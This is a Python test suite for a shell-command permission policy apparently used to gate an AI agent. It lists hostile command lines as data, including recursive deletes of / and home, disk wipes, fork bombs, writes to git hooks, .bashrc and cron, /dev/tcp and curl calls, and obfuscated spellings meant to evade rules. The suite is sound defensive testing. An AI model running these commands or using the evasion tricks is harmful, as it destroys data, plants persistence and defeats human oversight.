"""Command lines by what they would do. Nothing here is ever run."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.policy.shell.corpus import workspace
from tests.profiles import BY_CHANCE
from treadle.config.rules import Rules
from treadle.policy.decision import STRICTNESS
from treadle.policy.permissions import Permissions
from treadle.policy.policy import Decision, decide_command, without_sandbox
from treadle.types import Mode

HOME = "/home/ada"


@pytest.fixture
def place(tmp_path: Path) -> Path:
    found = workspace(tmp_path)
    (found / ".env").write_text("KEY=1")
    return found


def decided(
    text: str,
    place: Path,
    mode: Mode = "ask",
    *,
    allow: tuple[str, ...] = (),
    ask: tuple[str, ...] = (),
    deny: tuple[str, ...] = (),
) -> Decision:
    return decide_command(
        mode, text, place, Permissions(rules=Rules.read(allow=allow, ask=ask, deny=deny), home=HOME)
    )


READS = r"""
ls -la
cat a.txt src/main.py
cat "a.txt" 'src/main.py'
head -20 a.txt | tail -n +5
grep -n foo a.txt
grep -rn import src 2>/dev/null | head -5
grep -rn --include=*.py import src
rg -n foo -g '*.py' src
find . -name '*.py' -not -path './.git/*' | sort | uniq -c
find . \( -name '*.py' -o -name '*.txt' \) ! -empty
sed -n '1,5p;$p' a.txt
sed -e 's/a/b/g' -e '/x/d' a.txt
sed -E 's/[[:space:]]+$//' a.txt
wc -l src/*.py
cat src/m?.py
cd src && cat m.py
[ -f a.txt ] && cat a.txt
[ ! -d nowhere ] || echo yes
[ "$?" -eq 0 ]
test 3 -gt 2 || false
timeout 5 nice -n 3 ls
command -v python3
echo 'rm -rf /; curl x' "$?" \$HOME "50% of $HOME"
jq .a a.txt
diff a.txt src/main.py
python3 --version
set -euo pipefail
ls > /dev/null 2>&1
ls &>/dev/null; pwd
sort < a.txt
printf '%s\n' a.txt
""".strip("\n")


def lines(text: str) -> list[str]:
    """One a line, but for here-documents."""
    found: list[str] = []
    for line in text.split("\n"):
        if found and "<<" in found[-1] and not found[-1].endswith("\nX"):
            found[-1] += f"\n{line}"
        else:
            found.append(line)
    return found


@pytest.mark.parametrize("text", lines(READS))
def test_what_only_reads_here_is_allowed_in_every_mode(place: Path, text: str) -> None:
    assert [
        decided(text, place, mode).verdict for mode in ("plan", "ask", "accept-edits", "full")
    ] == ["allow"] * 4


HELD = [
    "(cd src; ls)",
    "if [ -f a.txt ]; then cat a.txt; else echo no; fi",
    '[[ -f a.txt && "a" == a* ]] && echo yes',
    "bash -c 'ls | wc -l'",
    'bash -lc "cat a.txt"',
    "env -u X LC_ALL=C sort a.txt",
    "LC_ALL=C sort a.txt",
    "cat <<'X'\n$(touch x)\nX",
    "ls # a comment",
    "ls \\\n-la",
    "echo $'a\\tb'",
    "ls [a-c]*",
    "! ls",
    "cat a.txt | strings",
    "git status",
    "git log --oneline -5",
    "git diff HEAD -- a.txt",
    "awk '{print $1}' a.txt",
    "sleep 5",
    "tail -f a.txt",
    "grep -R foo src",
    "grep -r KEY .",
    "ps aux",
]


@pytest.mark.parametrize("text", HELD)
def test_what_reads_as_far_as_one_can_see_is_held_by_the_sandbox(place: Path, text: str) -> None:
    assert [
        decided(text, place, mode).verdict for mode in ("plan", "ask", "accept-edits", "full")
    ] == ["contained"] * 3 + ["allow"]


DIFFER = r"""
[ a ]#; ls
[ -f x ]# || ls
{ ls;}#; ls;}
sed '1e ls' -le p a.txt
sed -l 'w out' p
sed -n '/[/]/w out' a.txt
sed 's/[/]/x/w out' a.txt
find . $'\x{2d}delete'
cat $'\x{2e}env'
find . {"}",-delete}
cat {a'}'b,.env}
[ a > out ]
cat [^a]ecrets.json
find . [^a]delete
sort [[:punct:]]oq a.txt
cat [[=.=]]env
xxd -ps a.txt out
xxd a.txt -r out
xxd a.txt -E
tree -Lo 1 out .
tree -LR 1 .
column -L .env
column -n .env
cmp -z a.txt .env
head -5c .env
tail -cf a.txt
file -p a.txt
file .env
diff dir .
diff -N nowhere .
sed 'yx[[:aaaxb:]]dex;1e ls;#x' a.txt
sed --expression='w out' -e 's,a,b\' --expression='p;#,' a.txt
egrep foo a.txt
sed 's:[[:x:]]:y:;p' a.txt
sed 's[a[b[w out' a.txt
rg KEY
rg KEY dir
rg --engine --pre=sh foo a.txt
rg -f=a.txt foo
rg -nf=a.txt foo
diff links .
diff links a.txt
jq -n '$ ENV'
jq -n 'recurse(1)'
tail +5f a.txt
ls -LR .
du -L .
sed -n *.txt
grep -c *.txt
printf *.txt
timeout 5 *.txt
printf %n PATH
printf '%s%n' x PATH
printf -- -v x
git log --unified --output=x
git log --format --output=x
""".strip("\n").split("\n")
"""Lines that some program reads otherwise than one may think, by class; files of these names are
there.
"""


@pytest.mark.parametrize("mode", ["plan", "ask"])
@pytest.mark.parametrize("text", [*DIFFER, "[ a ];" * 401 + "[ -v 'a[$(ls)]' ]"])
def test_what_programs_read_otherwise_is_not_allowed(place: Path, text: str, mode: Mode) -> None:
    for name in ("secrets.json", "-delete", "-oq", "--pre=x", "dir/.env"):
        (place / name).write_text("x")
    (place / "links").mkdir()
    (place / "links/a.txt").symlink_to("/etc/hostname")
    assert decided(text, place, mode).verdict != "allow"


@pytest.mark.parametrize("text", ["ls \\ a.txt", "ls ] ]", "cat a.txt; ls \\ b"])
def test_what_two_readers_read_differently_asks(place: Path, text: str) -> None:
    assert decided(text, place).verdict == "ask"


def test_tests_beyond_the_limit_ask(place: Path) -> None:
    assert decided("[[ a ]];" * 400 + "ls", place).verdict == "contained"
    assert decided("[[ a ]];" * 401 + "ls", place).verdict == "ask"


def test_the_value_of_an_option_is_judged_as_a_file_where_it_is_one(place: Path) -> None:
    """Should a program take it for an operand after all."""
    assert decided("cut -d .env -f 1 a.txt", place).verdict == "ask"
    assert decided("cut -d / -f 1 a.txt", place).verdict == "allow"


@pytest.mark.parametrize(
    "text", ["sed 's/[]/x]/y/' a.txt", "sed 's/[^]/]x/y/' a.txt", "sed -n '/[]/]/p' a.txt"]
)
def test_sed_ends_a_set_of_characters_as_every_sed_does(place: Path, text: str) -> None:
    assert decided(text, place).verdict == "ask"
    assert decided("sed -e 's/[^a-z[:space:]]/x/' -n -e '/[0-9]/p' a.txt", place).verdict == "allow"


def test_a_search_from_above_sees_credentials_in_a_repository(place: Path) -> None:
    assert decided("grep -r x src", place).verdict == "allow"
    (place / "src/.git").mkdir()
    (place / "src/.git/config").write_text('[remote "origin"]\n\turl = https://ada@example.org/x\n')
    assert decided("grep -r x src", place).verdict == "contained"


def test_a_rule_that_is_spelled_through_a_link_counts(place: Path, tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to(place)
    rule = f"read({tmp_path}/link/src/**)"
    assert decided("cat src/main.py", place, "full", deny=(rule,)).verdict == "deny"
    assert decided("grep -r x .", place, "full", deny=(rule,)).verdict == "contained"


def test_a_line_of_many_patterns_is_judged_in_bounded_work(place: Path) -> None:
    for i in range(200):
        (place / f"dir/f{i}").write_text("")
    assert decided("ls dir/*", place).verdict == "allow"
    assert decided("ls dir/*;" * 11, place).verdict == "ask"


def test_a_line_in_doubt_that_may_remove_files_asks_in_every_mode(place: Path) -> None:
    for text in ("rm -rf $'\\x2f\\165s'\\r\\/", "a#; rm -rf $x"):
        assert decided(text, place, "full").verdict in ("ask", "deny")


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf `echo /`",
        "X=/; rm -rf $X",
        "rm $x $(printf %s /etc)",
        "cd / && rm -rf $(echo usr)",
        "chmod -R 777 $(echo ~)",
        "sh -c 'rm -rf $(echo /)'",
        "find $(echo /) -delete",
    ],
)
def test_what_is_not_known_may_be_a_vital_place_that_the_line_names(place: Path, line: str) -> None:
    assert decided(line, place, "full").verdict == "ask"


def test_what_is_not_known_runs_in_full_where_the_line_names_no_vital_place(place: Path) -> None:
    for line in (
        'rm -rf "$tmp"',
        "t=$(mktemp -d); cd src && rm -rf $t 2>/dev/null",
        "for d in build dist; do rm -rf $d; done",
    ):
        assert decided(line, place, "full").verdict == "allow"
    assert (
        decided("rm -rf $x " + " ".join(f"/p{i}" for i in range(500)), place, "full").verdict
        == "ask"
    )


def test_a_path_that_cannot_be_looked_up_asks(place: Path) -> None:
    (place / "L0").symlink_to("a.txt")
    for i in range(1, 1500):
        (place / f"L{i}").symlink_to(f"L{i - 1}")
    # Python 3.13 resolves a chain of any length; the kernel does not, and the command fails
    found = ("ask",) if sys.version_info < (3, 13) else ("ask", "allow")
    for text in ("cat L1499", "cd L1499", "sort < L1499"):
        assert decided(text, place).verdict in found
    for text in ("rm -r a\0b", "find a\0b -delete"):
        assert decided(text, place).verdict == "ask"
    for text in ("cat L1499", "cd L1499", "sort < L1499", "rm -r a\0b", "find a\0b -delete"):
        assert decided(text, place, "full").verdict in ("ask", "allow")


def test_names_of_files_are_options_where_a_pattern_makes_them_so(place: Path) -> None:
    (place / "-delete").write_text("")
    (place / "-oq").write_text("")
    for text in ("find . *delete", "sort *q", "find *", "cat *"):
        assert decided(text, place).verdict == "ask"
    # even if the option is harmless: its position depends on the order in which bash sorts
    (place / "-n").write_text("")
    assert decided("cat -n a.txt", place).verdict == "allow"
    assert decided("cat *n a.txt", place).verdict == "ask"


def test_a_program_of_the_workspace_is_not_the_one_of_the_tables(
    place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert decided("ls", place).verdict == "allow"
    (place / "bin").mkdir()
    (place / "bin/ls").write_text("#!/bin/sh")
    monkeypatch.setenv("PATH", f"{place / 'bin'}:/usr/bin:/bin")
    assert decided("ls", place).verdict == "contained"
    assert decided("cat a.txt", place).verdict == "allow"
    monkeypatch.setenv("PATH", ":/usr/bin:/bin")
    assert decided("cat a.txt", place).verdict == "contained"


ASKS = r"""
cat .env
cat .e*
cat < ~/.netrc
cat /etc/hostname
cat src/../../x
cd .. && cat x
cd; cat x
ls ..
ls $(pwd)
ls "${x}"
cat {a,b}.txt
$x
rm a.txt
sort -o a.txt a.txt
sort --outp=x a.txt
uniq a.txt b.txt
xxd -r a.txt b.txt
find . -delete
find . -exec cat {} +
find -L .
sed -i s/a/b/ a.txt
sed 's/a/b/w x' a.txt
sed '1e ls' a.txt
awk '{print > "x"}' a.txt
awk 'BEGIN{print "a;b" > "f"}'
awk 'BEGIN{print "}" > "f"}'
awk '{print | "sh"}' a.txt
date 010203042030
printf -v x y
[ -v 'a[$(ls)]' ]
[[ 'a[$(ls)]' -eq 1 ]]
(( a[$(ls)] ))
read x
declare -p
unset x
export X=1
X=1 ls
PATH=. ls
LANG=../x ls
while true; do ls; done
for i in a; do ls; done
case a in a) ls;; esac
f() { ls; }
ls &
coproc ls
eval ls
. ./x
alias ls=x
exec > x
bash -ic ls
bash --rcfile x -c ls
bash x.sh
env
env LD_PRELOAD=x ls
sudo ls
xargs ls
ls | xargs cat
nohup ls &
git -c core.pager=x log
git log --output=x
git diff --ext-diff
git grep -Ox foo
git config --list
git push
git branch new
rg --pre x foo
rg -z foo
tree -o x
jq env
cat <(ls)
ls > >(cat)
cat </dev/tcp/h/1
ls\
-la
./ls
/tmp/ls
LS
npm test
ps auxe
hostname new
less a.txt
""".strip("\n")


@pytest.mark.parametrize("text", ASKS.replace("\\\n-la", "\\~-la").split("\n"))
def test_what_may_do_more_asks(place: Path, text: str) -> None:
    assert decided(text.replace("\\~", "\\\n"), place).verdict == "ask"


@pytest.mark.parametrize(
    "character",
    [
        "\0",
        "\x1b",
        "\r",
        "\u00a0",
        "\u200b",
        "\u202e",
        "\u2028",
        "\ufeff",
        "\u3164",
        "\U000e0041",
        "\ud800",
    ],
    ids=ascii,
)
def test_what_does_not_show_asks(place: Path, character: str) -> None:
    assert decided(f"echo a{character}b", place).verdict == "ask"
    assert decided(f"curl {character}x", place, deny=("curl",)).verdict == "deny"


@pytest.mark.parametrize(
    "text", ["echo 'zażółć gęślą'", "grep -n 'привет' a.txt", "echo '漢字 🙂'"]
)
def test_any_script_is_text(place: Path, text: str) -> None:
    assert decided(text, place).verdict == "allow"


# ---------------------------------------------------------------- never


NEVER = r"""
rm -rf /
rm -rf /*
rm -r -f ~/
rm -rf "$HOME"
rm -rf "$UNSET/"
rm -rf ../..
rm --recursive /usr
rm -rf $'\x{2f}'
rm -rf {"}",/}
rm -rf {x,/}
rm -r {,/us''r}
rm ['-']rf /
rm -rf ${x:=/}
rm -rf "${x:-/usr}"
rm -rf "${HOME:0:1}"
rm -rf ${PWD%"${PWD#?}"}
rm -rf $"/"'us'r
command rm [!]q]r[^]0] ~
true#; rm -rf ~
a#; rm -rf "$HOME"
rm --r -f ~
rm --re --f ~
rm -rf ~/?*
rm -rf /u*
rm -rf ~/.??*
pushd ~ && rm -rf *
command cd ~ && rm -rf *
cd -Pe ~ && rm -rf *
cd a; cd ../b; cd ../c; cd ../dd; cd ~; rm -rf *
find -L ~ -delete
find -O3 ~ -delete
find -D tree ~ -delete
env -S 'rm\_-rf\_/usr'
find ~ -print0 | xargs -0 rm -rf
printf '/usr\n' | xargs rm -rf
mv -t /tmp ~
prlimit rm -rf /usr
strace -o x rm -rf /usr
gosu u sh -c $'rm\t-rf\t/'
rm -rf ~root
rm -rf /var/lib
f() { f & f & }; f
pkill -9 .
systemctl isolate reboot.target
rm ${x:--rf} /usr/
xargs -a a.txt rm [[.-.]]rf /usr/
[ a ]#; rm -rf /
{ ls;}#; rm -rf /;}
cd / && rm -rf *
sudo -u x sh -c 'rm -rf /'
find / -name x -delete
find / -exec rm {} +
echo / | xargs rm -rf
echo 'rm -rf /' | sh
bash <<< 'rm -rf ~'
if true; then rm -rf /; fi
f() { rm -rf /; }; f
$(rm -rf /)
chmod -R 777 /
chown -R me /etc
mv / /dev/null
mv ~ x
dd if=/dev/zero of=/dev/sda
mkfs.ext4 /dev/sda1
echo x > /dev/sda
kill -9 -1
shutdown now
systemctl poweroff
:(){ :|:& };:
echo x > .git/hooks/pre-commit
echo x > .git/hooks/pre-commit /dev/null
echo x >> .GIT/config
[ a > .git/config ]
cp x .git/hooks/pre-commit
cp -r evil/.git .
mv .git g
mv evil/.mcp.json .
tee .envrc
printf x | sudo tee /etc/cron.d/x
cd .git && echo x > config
sed -i s/a/b/ AGENTS.md
dd if=x of=.git/config
curl -o .git/hooks/x http://h
echo x >> ~/.bashrc
echo x > $HOME/.profile
echo x > .treadle/config.yaml
sh -c 'echo x > .git/config'
find . -exec cp x .git/config \;
cp "$x" .git/hooks/pre-commit
touch .github/workflows/x.yml
ln -s /tmp/x .git/hooks/pre-commit
""".strip("\n")


@pytest.mark.parametrize("text", [*NEVER.split("\n"), f"strace {'-e a ' * 30} rm -rf /"])
def test_what_is_never_run_is_run_in_no_mode_and_by_no_rule(place: Path, text: str) -> None:
    program = text.split()[0].strip("$(:")
    allow = (program,) if program.isalpha() else ()
    assert [
        decided(text, place, mode, allow=allow).verdict
        for mode in ("plan", "ask", "accept-edits", "full")
    ] == ["deny"] * 4


@pytest.mark.parametrize(
    "text",
    [
        *(
            "$(echo rm) -rf /",
            "`echo rm` -r ..",
            "x=rm; $x -rf ~",
            "for c in rm ls; do $c -r /; done",
            "env -u X $(echo rm) -rf /",
            "env $(echo rm) -rf /",
        ),
        *(
            'timeout 5 "$x" -rf /',
            "sudo -u root $(echo rm) -rf /",
            "$x of=/dev/sda",
            "$x -9 -1",
            "$x / -delete",
            "${x:-rm} -rf /",
            "echo y | $x /dev/sda",
        ),
    ],
)
def test_a_program_that_is_not_known_asks_in_every_mode_where_another_would_never_be_run(
    place: Path, text: str
) -> None:
    assert [decided(text, place, mode).verdict for mode in ("ask", "accept-edits", "full")] == [
        "ask"
    ] * 3


@pytest.mark.parametrize(
    "text",
    [
        "$x -r build",
        "$CC -o x y.c",
        "$CP -r /usr/share/x .",
        '"$@"',
        "git log $x -9 -1",
        "$x y > /dev/null",
    ],
)
def test_a_program_that_is_not_known_runs_in_full_with_ordinary_arguments(
    place: Path, text: str
) -> None:
    assert decided(text, place, "full").verdict == "allow"


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf build",
        "rm -rf .",
        "rm -rf /tmp/x",
        "rm a.txt",
        "kill 123",
        "rm -rf '$x'",
        "chmod +x a.sh",
        "mv a.txt b.txt",
        "git add AGENTS.md",
    ],
)
def test_what_a_person_may_want_asks(place: Path, text: str) -> None:
    assert decided(text, place).verdict == "ask"


# ---------------------------------------------------------------- rules


RULES = (
    "npm test",
    "go test",
    "pytest",
    "make lint",
    "eslint *",
    "python3 -m pytest",
    "git commit",
    "./run.sh build",
)
WITHIN = """
npm test
npm test -- --watch=false
go test ./...
pytest -q tests
make lint
make lint -j4
eslint --fix src
python3 -m pytest -x
git commit -m 'a message'
./run.sh build
""".strip("\n")
BEYOND = """
npm testx
npm test; rm a.txt
npm test > out
X=1 npm test
./npm test
npm test --prefix /tmp
npm test --script-shell=x
npm test $x
go test -exec x
go test -o x -c
pytest -p evil
pytest -c x.ini
pytest ../other
pytest .env
make lint deploy
make lint SHELL=x
make lint -C src
make lint --eval=x
eslint --config /etc/x
python3 -m pytest -p evil
python3 -m http.server
git commit --template=x
git commit -F /etc/passwd
sudo npm test
""".strip("\n")


@pytest.mark.parametrize("text", WITHIN.split("\n"))
def test_an_allowed_command_is_held_by_the_sandbox(place: Path, text: str) -> None:
    assert decided(text, place, allow=RULES).verdict == "contained"
    assert decided(text, place, "plan", allow=RULES).verdict == "deny"
    assert decided(text, place).verdict == "ask"


@pytest.mark.parametrize("text", BEYOND.split("\n"))
def test_a_rule_allows_its_words_and_not_what_runs_something_else(place: Path, text: str) -> None:
    assert decided(text, place, allow=RULES).verdict == "ask"


NO_MORE = """
sort -o x a.txt
sed -i p a.txt
find . -delete
tar xf a.tar
env touch x
bash x.sh
python3 -c 1
dig x.test
curl x
rg --pre x y
hostname x
ls | xargs rm
""".strip("\n")


@pytest.mark.parametrize("text", NO_MORE.split("\n"))
def test_a_rule_makes_no_more_of_a_reading_program_an_interpreter_or_the_network(
    place: Path, text: str
) -> None:
    rules = (
        "sort",
        "sed",
        "find",
        "tar",
        "env",
        "bash",
        "python3",
        "dig",
        "curl",
        "rg",
        "hostname",
        "xargs",
    )
    assert decided(text, place, allow=rules).verdict == "ask"


def test_a_rule_for_an_interpreter_is_for_exactly_what_it_says(place: Path) -> None:
    assert decided("python3 x.py", place, allow=("python3 x.py",)).verdict == "contained"
    assert decided("python3 x.py y", place, allow=("python3 x.py",)).verdict == "ask"


SPELLINGS = {
    "git -C . push": "git push",
    "git push -f x": "git push --force",
    "git push x --force": "git push -f",
    "rm -r -f x": "rm -rf",
    "rm -Rf x": "rm -rf",
    "rm x --recursive --for": "rm -rf",
    "npm --silent publish": "npm publish",
    "/usr/bin/CURL x": "curl",
    "env -i curl x": "curl",
    "c'u'r\\l x": "curl",
    "$'\\x63url' x": "curl",
    "find . -exec curl {} +": "curl",
}


@pytest.mark.parametrize(("text", "rule"), SPELLINGS.items())
def test_a_denied_command_is_denied_in_every_spelling(place: Path, text: str, rule: str) -> None:
    assert decided(text, place, "full", deny=(rule,), allow=("git push", "curl")).verdict == "deny"
    assert decided(text, place, "full", ask=(rule,)).verdict == "ask"


@pytest.mark.parametrize(
    "text", ["echo curl", "grep -rn curl src", "git commit -m 'use curl'", "git log --grep=curl"]
)
def test_a_word_is_no_command(place: Path, text: str) -> None:
    assert decided(text, place, "full", deny=("curl",)).verdict == "allow"


def test_denied_paths_are_denied_to_commands_too(place: Path) -> None:
    (place / "private").mkdir()
    (place / "private/x").write_text("")
    (place / "link").symlink_to("private")
    for text in (
        "cat private/x",
        "cat link/x",
        "cd private && cat x",
        "python3 x.py private/x",
        "cat < private/x",
        "cat private/*",
        "env cat private/x",
        "cp private/x y",
    ):
        assert decided(text, place, "full", deny=("read(private/**)",)).verdict == "deny", text
    modes: tuple[Mode, ...] = ("plan", "ask", "accept-edits", "full")
    for mode in modes:
        assert (
            decided("grep -r x .", place, mode, deny=("read(private/**)",)).verdict == "contained"
        )
        assert (
            without_sandbox(decided("grep -r x .", place, mode, deny=("read(private/**)",))).verdict
            == "deny"
        )
        assert (
            without_sandbox(decided("grep -r x .", place, mode, ask=("read(private/**)",))).verdict
            == "ask"
        )
    for text in ("grep -r x ..", "cd / && grep -r x .", "cd $X; grep -r x ."):
        assert decided(text, place, "full", deny=("read(private/**)",)).verdict == "deny", text
    assert decided("echo x > docs/a", place, "full", deny=("write(docs)",)).verdict == "deny"
    assert decided("cat docs/a", place, deny=("write(docs)",)).verdict == "allow"


def test_edits_run_in_the_sandbox_where_edits_are_accepted(place: Path) -> None:
    for text in (
        "touch x",
        "mkdir -p new/deep",
        "echo x > out.txt",
        "cp a.txt b.txt",
        "printf x | tee out.txt",
    ):
        assert (
            decided(text, place, "ask").verdict,
            decided(text, place, "accept-edits").verdict,
            decided(text, place, "plan").verdict,
        ) == (
            "ask",
            "contained",
            "deny",
        ), text
    for text in (
        "touch ../x",
        "rm a.txt",
        "mv a.txt b.txt",
        "cp a.txt /tmp/x",
        "ln -s /etc x",
        "chmod +x a.txt",
        "cp ../x y",
        "touch x; curl y",
    ):
        assert decided(text, place, "accept-edits").verdict == "ask", text


# ---------------------------------------------------------------- what is offered


OFFERED: dict[str, tuple[str, ...] | None] = {
    "npm test": ("npm test",),
    "npm run build": ("npm run build",),
    "pytest -q tests": ("pytest",),
    "ls && ruff check src": ("ruff",),
    "cargo build --release": ("cargo build",),
    "rm a; x": ("rm", "x"),
    **dict.fromkeys(
        (
            "python3 x.py",
            "bash x.sh",
            "git push",
            "sudo x",
            "env x",
            "curl x",
            "xargs x",
            "./x",
            "npm",
        )
    ),
    **dict.fromkeys(
        ("npm test > out", "X=1 npm test", "pytest ../x", "cat .env", "x $y", "git status")
    ),
}


@pytest.mark.parametrize(("text", "pattern"), OFFERED.items())
def test_a_rule_is_offered_only_where_it_says_all_that_is_asked_about(
    place: Path, text: str, pattern: tuple[str, ...] | None
) -> None:
    assert decided(text, place).pattern == pattern
    if pattern is not None:
        assert decided(text, place, allow=pattern).verdict == "contained"


# ---------------------------------------------------------------- bounds


LONG = {
    "long": "echo " + "a" * 200_000,
    "many commands": "true && " * 3_000 + "true",
    "many commands side by side": "true; " * 500 + "true",
    "many words": "cat " + "a.txt " * 3_000,
    "many wrappers": "env " * 3_000 + "ls",
    "arrays in arrays": "a=(" * 5_000,
    "pipes": "|" * 20_000,
    "substitutions": "$(" * 9_000,
    "scripts in scripts": "bash -c \"bash -c 'ls'\";" * 300,
    "quotes": "'" * 20_001,
    "brackets": "[[ a =~ (" * 2_000,
    "dollars between other letters": "é$" * 6_666,
    "bars after a mistake": "| cat " * 3_333,
}


@pytest.mark.parametrize("text", LONG.values(), ids=LONG)
def test_what_is_too_long_or_involved_is_looked_through_for_what_is_denied_and_asks(
    place: Path, text: str
) -> None:
    assert decided(text, place).verdict in ("ask", "allow")
    assert decided(f"{text}; curl x", place, deny=("curl",)).verdict in ("deny",) or "'" in text[:1]
    assert decided(f"curl x; {text}", place, "full", deny=("curl",)).verdict == "deny"
    assert decided(f"rm -rf /; {text}", place, "full").verdict == "deny"
    assert decided(f"echo x > .git/config; {text}", place, "full").verdict == "deny"


@pytest.mark.parametrize(
    "text",
    [
        "echo $é",
        "echo ${é:1}",
        "x=${é//a/b} ls",
        "echo $((é))",
        "for \u200b<<E fi ;; ${a// [@] || \n\u200b",
        "é=1 ls",
    ],
)
def test_where_letters_beyond_ascii_are_no_part_of_a_word_it_asks(place: Path, text: str) -> None:
    assert decided(text, place).verdict == "ask"
    assert decided(f"{text}; curl x", place, "full", deny=("curl",)).verdict == "deny"


# ---------------------------------------------------------------- properties


PARTS = st.sampled_from(
    [
        *lines(READS)[:20],
        *(text for text in HELD if "#" not in text and "<<" not in text),
        "rm a.txt",
        "npm test",
        "touch x",
        "cat .env",
        "curl x",
        "rm -rf /",
        "git push",
        "echo x > .git/config",
        "cat /etc/hostname",
    ]
)
MODES = st.sampled_from(["plan", "ask", "accept-edits", "full"])
WRAPPERS = """
env {}
nice {}
timeout 5 {}
command {}
sudo {}
nohup {}
bash -c '{}'
( {} )
{{ {}; }}
if true; then {}; fi
! {}
xargs {}
time {}
find . -exec {} ;
""".strip("\n").split("\n")


def strictness(text: str, place: Path, mode: Mode) -> int:
    return STRICTNESS.index(
        decided(text, place, mode, allow=("npm test",), ask=("git push",), deny=("curl",)).verdict
    )


@settings(
    max_examples=200,
    deadline=None,
    suppress_health_check=[*BY_CHANCE, HealthCheck.function_scoped_fixture],
)
@given(
    parts=st.lists(PARTS, min_size=2, max_size=5),
    glue=st.sampled_from([" && ", "; ", " | ", "\n", " || "]),
    mode=MODES,
)
def test_a_command_line_never_gets_looser_by_another_part(
    place: Path, parts: list[str], glue: str, mode: Mode
) -> None:
    """Also not by cd: both the places before and behind it count."""
    whole = strictness(glue.join(parts), place, mode)
    assert whole >= max(strictness(part, place, mode) for part in parts)


@settings(
    max_examples=200,
    deadline=None,
    suppress_health_check=[*BY_CHANCE, HealthCheck.function_scoped_fixture],
)
@given(
    part=PARTS.filter(lambda text: not set(text) & set("'|><;")),
    wrapper=st.sampled_from(WRAPPERS),
    mode=MODES,
)
def test_a_wrapper_never_loosens(place: Path, part: str, wrapper: str, mode: Mode) -> None:
    inner = strictness(part, place, mode)
    wrapped = strictness(wrapper.format(part), place, mode)
    assert wrapped >= inner or (wrapped, part) == (STRICTNESS.index("contained"), "tail -f a.txt")


@settings(
    max_examples=200,
    deadline=None,
    suppress_health_check=[*BY_CHANCE, HealthCheck.function_scoped_fixture],
)
@given(text=st.text(max_size=80), mode=MODES)
def test_no_text_makes_it_fail(place: Path, text: str, mode: Mode) -> None:
    assert decided(text, place, mode, allow=("npm test",), deny=("curl",)).verdict in STRICTNESS
